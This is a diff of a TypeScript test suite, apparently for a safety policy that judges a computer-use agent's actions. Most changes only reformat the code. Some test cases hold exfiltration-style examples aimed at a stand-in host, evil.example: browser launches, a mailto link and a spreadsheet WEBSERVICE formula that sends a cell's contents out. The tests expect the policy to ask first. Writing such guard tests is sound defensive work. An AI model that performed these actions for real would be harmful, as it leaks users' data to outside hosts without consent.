@@ -39,7 +39,14 @@ const save = (writes: string) =>
     targetOf(saveDialog, controlOf('button', 'Save'), { writes }),
   )
 const bar = (value: string | null = null) =>
-  targetOf(browser, controlOf('edit', 'Address and search bar', [], { value, bounds: { x: 100, y: 60, width: 500, height: 30 } }), { kind: 'focus' }) // prettier-ignore
+  targetOf(
+    browser,
+    controlOf('edit', 'Address and search bar', [], {
+      value,
+      bounds: { x: 100, y: 60, width: 500, height: 30 },
+    }),
+    { kind: 'focus' },
+  )
 const go = (text: string) => actOf('type_text', { text, enter: true }, bar())
 const categories = (act: ReturnType<typeof actOf>, around = aroundOf()) =>
   judge(act, policy({ around })).categories
@@ -139,14 +146,25 @@ describe('a way out', () => {
     launch('chromium', ['evil.example/x']),
     launch('chromium', ['--app=https://evil.example/']),
     launch('mailto:a@evil.example'),
-    actOf('run_shell', { bash_command: 'chromium http://127.0.0.1:9/x' }, targetOf(null, null, { kind: 'application' })),
+    actOf(
+      'run_shell',
+      { bash_command: 'chromium http://127.0.0.1:9/x' },
+      targetOf(null, null, { kind: 'application' }),
+    ),
     go('https://evil.example/'),
     go('evil.example'),
     actOf('keyboard_input', { keys: 'Enter' }, bar('evil.example/?d=1')),
-    actOf('type_text', { text: '=WEBSERVICE("http://evil.example?d="&A1)', enter: true }, targetOf(windowOf('soffice', 'a.ods'), controlOf('cell', 'A1'), { kind: 'focus' })),
+    actOf(
+      'type_text',
+      { text: '=WEBSERVICE("http://evil.example?d="&A1)', enter: true },
+      targetOf(windowOf('soffice', 'a.ods'), controlOf('cell', 'A1'), { kind: 'focus' }),
+    ),
   ])('asks for an address that the person did not name %#', (act) => {
-    expect(judge(act, policy())).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['send']) })
-  }) // prettier-ignore
+    expect(judge(act, policy())).toMatchObject({
+      decision: 'ask',
+      categories: expect.arrayContaining(['send']),
+    })
+  })
 
   test('needs no question for an address that the person has named', () => {
     const around = aroundOf(['Open https://shop.example/cart, then look at 127.0.0.1:9.'])
@@ -228,12 +246,17 @@ describe('a command', () => {
     expect(judgement).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['delete', 'send']) })
   }) // prettier-ignore
 
-  test.each(['mkdir -p ~/out', 'cp a.txt b.txt', 'touch x && ls | sort', 'python3 script.py', 'zip -r a.zip folder', 'ls > list.txt', 'echo hi 2> /dev/null'])(
-    'whose words say it all is asked about as a command alone: %s',
-    (line) => {
-      expect(judge(command(line), policy({ yesTo: new Set(['run_command']) })).decision).toBe('allow')
-    },
-  ) // prettier-ignore
+  test.each([
+    'mkdir -p ~/out',
+    'cp a.txt b.txt',
+    'touch x && ls | sort',
+    'python3 script.py',
+    'zip -r a.zip folder',
+    'ls > list.txt',
+    'echo hi 2> /dev/null',
+  ])('whose words say it all is asked about as a command alone: %s', (line) => {
+    expect(judge(command(line), policy({ yesTo: new Set(['run_command']) })).decision).toBe('allow')
+  })
 
   test('is covered by a rule only with the files that it runs as they were', () => {
     const one = coverageOf(command('sh x.sh', { scripts: 'aa' }))
